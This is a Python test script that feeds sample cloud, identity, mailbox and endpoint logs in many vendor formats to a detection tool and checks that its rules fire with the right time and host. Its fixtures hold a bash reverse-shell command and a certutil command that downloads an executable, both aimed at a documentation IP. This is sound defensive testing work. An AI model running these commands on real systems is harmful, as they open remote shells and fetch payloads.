#!/usr/bin/env python3
"""Records of clouds and of sensors in the schemas and exports in which people hand them over: our own rules
find them, with their time."""
import json

from _breakwater import Checks, Sandbox

TIME = "2026-05-03T08:00:01Z"
TRAIL = {
    "eventVersion": "1.08", "eventTime": TIME, "eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging",
    "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.77", "userAgent": "aws-cli", "eventType": "AwsApiCall",
    "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/mallory", "userName": "mallory"},
    "requestParameters": {"name": "trail"}, "eventID": "e", "recipientAccountId": "1"}
PODS = {
    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "a", "stage": "ResponseComplete",
    "requestURI": "/api/v1/namespaces/default/pods/x/exec?command=sh", "verb": "create",
    "user": {"username": "system:anonymous"}, "sourceIPs": ["203.0.113.9"], "responseStatus": {"code": 101},
    "objectRef": {"resource": "pods", "namespace": "default", "name": "x", "subresource": "exec"},
    "requestReceivedTimestamp": TIME}
GRANT = {
    "actor": {"type": "User", "alternateId": "alice@corp.example"}, "eventType": "user.account.privilege.grant",
    "displayMessage": "Grant user privilege", "outcome": {"result": "SUCCESS"}, "published": TIME, "uuid": "u"}
RULE = {
    "CreationTime": TIME[:-1], "Id": "1", "Operation": "New-InboxRule", "RecordType": 1, "ResultStatus": "True",
    "Workload": "Exchange", "ClientIP": "203.0.113.77:443", "UserId": "alice@corp.example",
    "Parameters": [{"Name": "ForwardTo", "Value": "a@mail.example"}, {"Name": "Name", "Value": "."}]}
SHELL = "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"

DOWNLOAD = "certutil -urlcache -f http://203.0.113.9/a C:\\ProgramData\\a.exe"
DOWNLOADED = "System tool downloads a file from the Internet"

STOPPED = "CloudTrail stopped, deleted or narrowed"
REDIRECTED = "Shell redirected to a network address"
GRANTED = "Administrator's rights given in Okta"
FORWARDS = "Mailbox rule that forwards or hides mail"
ANONYMOUS = "Kubernetes answers somebody who did not log in"


def table(rows):
    return "".join(",".join('"' + str(c).replace('"', '""') + '"' for c in row) + "\r\n" for row in rows)


FORMS = {
    "CloudTrail's files": ("s3.json", json.dumps({"Records": [TRAIL]}), STOPPED),
    "Logs Insights": ("insights.csv", table(
        [["@timestamp", "@message"]] + [["2026-05-03 08:00:09.000", json.dumps(TRAIL)]] * 2), STOPPED),
    "Splunk's table": ("splunk.csv", table(
        [["_time", "host", "_raw"]] + [["2026-05-03T08:00:09.000+0000", "x", json.dumps(TRAIL)]] * 2), STOPPED),
    "Event history": ("history.csv", table(
        [["User name", "Event time", "Event source", "Event name", "AWS region", "Source IP address", "Error code"]] +
        [["mallory", TIME, TRAIL["eventSource"], "StopLogging", "us-east-1", "203.0.113.77", ""]] * 2), STOPPED),
    "Security Lake": ("ocsf.json", json.dumps(
        {"class_uid": 6003, "time": 1777795201000, "metadata": {"product": {"name": "CloudTrail"}, "event_code": "AwsApiCall"},
         "api": {"operation": "StopLogging", "service": {"name": "cloudtrail.amazonaws.com"}},
         "actor": {"user": {"type": "IAMUser", "name": "mallory"}}, "src_endpoint": {"ip": "203.0.113.77"}}), STOPPED),
    "AKS": ("aks.json", json.dumps(
        {"category": "kube-audit", "time": "2026-05-03T08:00:09Z", "properties": {"log": json.dumps(PODS)}}), ANONYMOUS),
    "Kubernetes behind syslog": ("k8s.log", "May  3 08:00:09 k8s01 kube-apiserver[1]: " + json.dumps(PODS) + "\n", ANONYMOUS),
    "Okta's event hook": ("hook.json", json.dumps(
        {"eventType": "com.okta.event_hook", "eventTime": "2026-05-03T08:00:09Z", "data": {"events": [GRANT]}}), GRANTED),
    "Okta in Sentinel": ("okta.json", json.dumps(
        {"TimeGenerated": TIME, "eventType_s": GRANT["eventType"], "displayMessage_s": GRANT["displayMessage"],
         "outcome_result_s": "SUCCESS", "actor_alternateId_s": "alice@corp.example", "Type": "Okta_CL"}), GRANTED),
    "OfficeActivity": ("office.json", json.dumps(
        {"TimeGenerated": TIME, "Operation": "New-InboxRule", "OfficeWorkload": "Exchange", "RecordType": "ExchangeAdmin",
         "UserId": "alice@corp.example", "Parameters": json.dumps(RULE["Parameters"]), "Type": "OfficeActivity"}), FORWARDS),
    "Microsoft 365 in Wazuh": ("wazuh.json", json.dumps(
        {"timestamp": "2026-05-03T08:00:01.000+0000", "rule": {"level": 3}, "agent": {"id": "000", "name": "m"},
         "data": {"integration": "office365", "office365": RULE}, "location": "office365"}), FORWARDS),
    "Microsoft 365 of Filebeat": ("filebeat.json", json.dumps(
        {"@timestamp": "2026-05-03T08:00:01.000Z", "event": {"dataset": "o365.audit", "action": "New-InboxRule", "provider": "Exchange"},
         "o365": {"audit": dict(RULE, Parameters={"ForwardTo": "a@mail.example", "Name": "."})}}), FORWARDS),
    "Microsoft 365 out of Elasticsearch": ("elastic.json", json.dumps(
        {"_index": "filebeat-8", "_source": {"@timestamp": "2026-05-03T08:00:01.000Z", "event": {"dataset": "o365.audit"},
         "o365": {"audit": dict(RULE, Parameters={"ForwardTo": "a@mail.example", "Name": "."})}}}), FORWARDS),
    "Microsoft 365 out of an index": ("hits.json", json.dumps(
        {"_index": "m365", "_source": RULE}), FORWARDS),
    "OCSF's processes": ("process.json", json.dumps(
        {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "web01"},
         "process": {"file": {"path": "/usr/bin/bash"}, "cmd_line": SHELL,
                     "parent_process": {"file": {"path": "/usr/sbin/nginx"}}}}), REDIRECTED),
    "OCSF's processes of Windows": ("windows.json", json.dumps(
        {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "ws01"},
         "process": {"file": {"path": "C:\\Windows\\System32\\certutil.exe"}, "cmd_line": DOWNLOAD}}), DOWNLOADED),
    "ASIM's processes of Windows": ("asim-windows.json", json.dumps(
        {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "ws01",
         "TargetProcessName": "C:\\Windows\\System32\\certutil.exe", "TargetProcessCommandLine": DOWNLOAD}), DOWNLOADED),
    "SentinelOne's of Windows": ("s1-windows.json", json.dumps(
        {"event.time": 1777795201000, "event.type": "Process Creation", "endpoint.name": "ws01",
         "tgt.process.image.path": "\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe", "tgt.process.cmdline": DOWNLOAD}), DOWNLOADED),
    "ASIM's processes": ("asim.json", json.dumps(
        {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "web01", "TargetProcessName": "/usr/bin/bash",
         "TargetProcessCommandLine": SHELL, "ActingProcessName": "/usr/sbin/nginx"}), REDIRECTED),
    "SentinelOne": ("s1.json", json.dumps(
        {"event.time": 1777795201000, "event.type": "Process Creation", "endpoint.name": "web01",
         "tgt.process.image.path": "/usr/bin/bash", "tgt.process.cmdline": SHELL,
         "src.process.image.path": "/usr/sbin/nginx"}), REDIRECTED),
}


def main():
    checks = Checks()
    sandbox = Sandbox()
    for form, (name, content, title) in FORMS.items():
        sandbox.file("logs/" + name, content.encode())
        run = sandbox.run("hunt", "logs/" + name, "-q", "--json", "--assume-year=2026")
        found = [f for f in map(json.loads, run.out.splitlines()) if f["rule"]["name"] == title]
        checks.check(f"{form}: {title}", bool(found), run)
        checks.check(f"{form}: time", all(f.get("@timestamp", "").startswith("2026-05-03T08:00:01") for f in found), run)
        if title == REDIRECTED:
            checks.check(f"{form}: host", all(f["host"]["name"] == "web01" for f in found), run)
    checks.exit()


main()
